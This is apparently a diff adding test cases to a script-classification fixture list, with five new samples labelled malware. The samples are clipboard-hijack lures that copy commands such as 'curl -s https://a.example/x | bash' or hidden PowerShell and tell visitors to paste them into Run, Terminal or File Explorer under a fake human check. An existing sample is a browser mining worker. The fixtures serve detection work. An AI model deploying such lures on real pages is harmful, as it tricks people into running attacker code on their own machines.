@@ -59,6 +59,31 @@ export const SCRIPT_CASES: readonly ScriptCase[] = [
     head: 'malware',
   },
   {
+    name: 'a command on the clipboard as an item, for the dialog "Run"',
+    source: `btn.addEventListener('click',function(){var c='cmd /c start /min powershell -c "FILLER"';navigator.clipboard.write([new ClipboardItem({'text/plain':new Blob([c],{type:'text/plain'})})]);box.innerHTML='<li>Press <b>Windows + R</b></li><li>Press CTRL + V</li>'})`,
+    head: 'malware',
+  },
+  {
+    name: 'a command for a terminal, as a check of humans',
+    source: `document.querySelector('#verify').onclick=function(){navigator.clipboard.writeText('curl -s https://a.example/x | bash');document.querySelector('#m').textContent='Verify you are human: open Terminal, press Command + V and Return'}`,
+    head: 'malware',
+  },
+  {
+    name: 'a command for the address bar of the file explorer',
+    source: `document.querySelector('#open').onclick=function(){navigator.clipboard.writeText('powershell -c FILLER      # C:\\\\plan.docx');document.querySelector('#m').innerHTML='Open File Explorer, press CTRL + L and paste the path'}`,
+    head: 'malware',
+  },
+  {
+    name: 'a hidden command in the place of what is copied',
+    source: `document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain','powershell -w hidden -c FILLER');e.preventDefault()})`,
+    head: 'malware',
+  },
+  {
+    name: 'a command that a server sends, for the dialog "Run"',
+    source: `var p='Verify you are human';fetch('https://a.example/c').then(r=>r.text()).then(t=>{document.querySelector('#c').onclick=()=>{navigator.clipboard.writeText(t);document.querySelector('#m').innerHTML=p+': press Windows + R, then CTRL + V'}})`,
+    head: 'malware',
+  },
+  {
     name: 'a job of a pool',
     source: `onmessage=function(e){var job=e.data;for(var nonce=0;nonce<1e6;nonce++){var h=Module.hash(job.blob,nonce);if(h<job.target)postMessage({job_id:job.job_id,nonce:nonce,result:h})}}`,
     head: 'cryptomining',
